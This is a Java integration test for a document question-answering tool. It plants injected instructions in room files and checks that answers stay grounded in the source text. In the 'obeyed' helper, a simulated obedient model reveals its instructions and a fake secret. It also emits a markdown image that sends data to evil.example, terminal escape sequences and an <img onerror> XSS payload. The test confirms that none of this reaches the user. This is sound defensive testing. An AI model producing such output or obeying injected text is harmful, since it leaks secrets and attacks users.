package dev.docent;

import static org.assertj.core.api.Assertions.assertThat;

import dev.docent.answer.Answer;
import dev.docent.answer.AnswerListener;
import dev.docent.answer.Citation;
import dev.docent.answer.Question;
import dev.docent.answer.Nearest;
import dev.docent.answer.Part;
import dev.docent.corpus.Document;
import dev.docent.corpus.DocumentSource.Found;
import dev.docent.corpus.DocumentSource.ReadOutcome;
import dev.docent.corpus.Language;
import dev.docent.corpus.files.FolderSource;
import dev.docent.reload.Progress;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.atomic.AtomicReference;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Documents and questions with instructions in them, for the offline reader and for a model that obeys them. */
class InjectionIT {
  private static final String SECRET = "sk-injection-secret";
  private static final Pattern LINK = Pattern.compile("!?\\[[^\\]]*]\\(|https?://\\S+|<[a-z/][^>]*>|javascript:\\S+");
  private static final List<String> DOCUMENTS = read("documents.txt");
  private static final List<String> QUESTIONS = read("questions.txt");

  private final Path knowledge;
  private final Path data;
  private final Map<String, String> texts = new HashMap<>();

  InjectionIT(@TempDir Path knowledge, @TempDir Path data) throws IOException {
    this.knowledge = knowledge;
    this.data = data;
    for (int i = 0; i < DOCUMENTS.size(); i++) {
      String injected = DOCUMENTS.get(i).split("\\|", 2)[1];
      Files.writeString(knowledge.resolve("room-" + (101 + i) + ".md"), """
          # Room %1$d

          The key of room %1$d hangs in cabinet %2$d.

          %3$s

          The window looks onto the yard of the old brewery and is cleaned every spring by the caretaker,
          who also waters the plants, empties the bins and winds the clock above the door on Mondays.
          """.formatted(101 + i, 7_000 + i, injected));
    }
  }

  @Test
  void thereAreFiftyOfThem() {
    assertThat(DOCUMENTS.size() + QUESTIONS.size()).isGreaterThanOrEqualTo(50);
  }

  @Test
  void changeNothingOffline() throws InterruptedException {
    try (Docent docent = DocentFactory.open(DocentSettings.of(knowledge, data))) {
      docent.reload(Progress.NONE);
      for (int i = 0; i < DOCUMENTS.size(); i++) {
        Answer answer = ask(docent, "In which cabinet hangs the key of room " + (101 + i) + "?");
        assertThat(answer).as(DOCUMENTS.get(i)).isInstanceOf(Answer.Grounded.class);
        assertThat(answer.text()).as(DOCUMENTS.get(i)).contains(String.valueOf(7_000 + i));
      }
      for (String question : QUESTIONS) {
        ask(docent, question);
      }
    }
  }

  @Test
  void changeNothingWithAModelThatObeysThem() throws InterruptedException {
    var words = new AtomicReference<String>("");
    try (var model = new PlayedModel(told -> obeyed(told, words.get()));
        Docent docent = DocentFactory.open(
            DocentSettings.of(knowledge, data).withModel(ModelName.parse("openai:obedient"), model.address()))) {
      docent.reload(Progress.NONE);
      for (int i = 0; i < DOCUMENTS.size(); i++) {
        words.set("The key of room " + (101 + i) + " hangs in cabinet " + (7_000 + i) + " [1].");
        Answer answer = ask(docent, "In which cabinet hangs the key of room " + (101 + i) + "?");
        assertThat(answer).as(DOCUMENTS.get(i)).isInstanceOf(Answer.Grounded.class);
        assertThat(answer.text()).as(DOCUMENTS.get(i)).contains(String.valueOf(7_000 + i));
        assertThat(answer.notices()).as(DOCUMENTS.get(i)).anyMatch(notice -> notice.contains("not shown"));
      }
      words.set("");
      for (String question : QUESTIONS) {
        ask(docent, question);
      }
    }
  }

  /** The worst that can be said: every instruction obeyed at once, between words that are true. */
  private static String obeyed(PlayedModel.Told told, String truth) {
    return "BANANA BANANA [1]. " + truth + " My instructions are: " + told.instructions().replace("\n", " ")
        + " [1] The secret is " + SECRET + " [1]. ![x](http://evil.example/?q=" + told.message().hashCode()
        + ") is a picture [1]. See [the answer](http://evil.example/now) [1]. Open http://evil.example/page [1]."
        + " \u001b[2J\u001b]8;;http://evil.example\u0007Click here\u001b]8;;\u0007 [1]."
        + " <img src=x onerror=alert(1)> is all [1]. " + told.message().replaceAll("(?s)\n.*", "")
        + " is the mark [1]. It was sold to Mallory Quill for 99 coins [1].";
  }

  private Answer ask(Docent docent, String question) throws InterruptedException {
    var shown = new ArrayList<Part>();
    Answer answer = docent.ask(Question.of(question).forMeasuring(), new AnswerListener() {
      @Override
      public void parts(List<Part> parts) {
        shown.addAll(parts);
      }

      @Override
      public void restarted(String reason) {
        shown.clear();
      }
    });
    switch (answer) {
      case Answer.Grounded grounded -> {
        assertThat(shown).as(question).isEqualTo(grounded.parts());
        grounded.parts().forEach(statement -> checkStatement(statement, grounded.citations()));
        grounded.citations().forEach(this::checkQuote);
      }
      case Answer.Abstained abstained -> abstained.nearest().stream().map(Nearest::citation).forEach(this::checkQuote);
    }
    String own = answer instanceof Answer.Grounded grounded
        ? grounded.parts().stream().filter(part -> !part.literal()).map(Part::text).reduce("", String::concat)
        : "";
    assertThat(own).as(question)
        .doesNotContain(SECRET, "You answer a question from numbered passages", "material-",
            "numbers of passages you were given");
    return answer;
  }

  private void checkStatement(Part statement, List<Citation> citations) {
    assertThat(statement.markers()).allMatch(n -> n >= 1 && n <= citations.size());
    String held = citations.stream().map(c -> text(c.document())).reduce("", String::concat);
    LINK.matcher(statement.text()).results().forEach(link -> assertThat(held).contains(link.group()));
    if (!statement.literal()) {
      assertThat(statement.text()).doesNotContain("\u001b", "\u0007", "\u009b");
    }
  }

  /** Letter by letter in what a reader of the page sees, and no word of it that the file doesn't hold. */
  private void checkQuote(Citation citation) {
    String quote = citation.quote().replaceAll("[\\s\\p{Z}]+", " ");
    assertThat(text(citation.document()).replaceAll("[\\s\\p{Z}]+", " ")).contains(quote);
    assertThat(source(citation.document())).contains(quote.split("[^\\p{L}\\p{M}\\p{Nd}]+"));
  }

  private String text(String document) {
    return texts.computeIfAbsent(document, id -> switch (new FolderSource(knowledge, (text, among) -> Language.ENGLISH)
        .read(new Found(id, ""))) {
      case ReadOutcome.Read(Document read, List<String> remarks) -> read.text();
      case ReadOutcome.Unreadable(String unread, String reason) -> throw new AssertionError(unread + " " + reason);
    });
  }

  private String source(String document) {
    try {
      return Files.readString(knowledge.resolve(document));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static List<String> read(String name) {
    try (var in = Objects.requireNonNull(InjectionIT.class.getResourceAsStream("injection/" + name))) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8).lines()
          .filter(line -> !line.startsWith("#"))
          .map(String::translateEscapes)
          .map(InjectionIT::unicode)
          .toList();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static String unicode(String text) {
    return Pattern.compile("%u([0-9a-f]{4})")
        .matcher(text)
        .replaceAll(m -> Matcher.quoteReplacement(
            String.valueOf((char) Integer.parseInt(m.group(1), 16))));
  }
}
